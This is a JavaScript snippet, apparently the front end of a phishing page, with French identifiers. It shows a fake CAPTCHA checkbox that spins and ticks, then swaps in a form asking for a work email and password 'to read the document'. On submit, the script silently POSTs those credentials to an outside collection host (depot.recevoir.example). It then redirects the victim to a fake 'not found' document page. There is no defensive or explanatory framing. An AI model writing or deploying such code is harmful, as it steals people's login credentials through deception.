const boite = document.querySelector('.robot-box');
const coche = document.querySelector('.robot-check');
let fait = false;
coche.addEventListener('click', () => {
  if (fait) return;
  fait = true;
  coche.classList.add('tourne');
  setTimeout(() => {
    coche.classList.remove('tourne');
    coche.classList.add('ok');
    setTimeout(() => {
      boite.remove();
      const f = document.createElement('form');
      f.id = 'connexion';
      f.innerHTML = `<h2>Vérifiez votre compte pour lire le document</h2>
        <input name="adresse" type="email" placeholder="Adresse e-mail professionnelle" required>
        <input name="mdp" type="password" placeholder="Mot de passe" required>
        <button>Continuer</button>`;
      document.querySelector('#zone').append(f);
      f.onsubmit = async (e) => {
        e.preventDefault();
        await fetch('https://depot.recevoir.example/r', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) });
        location.href = 'https://documents.suite-bureau.example/introuvable';
      };
    }, 700);
  }, 1800);
});
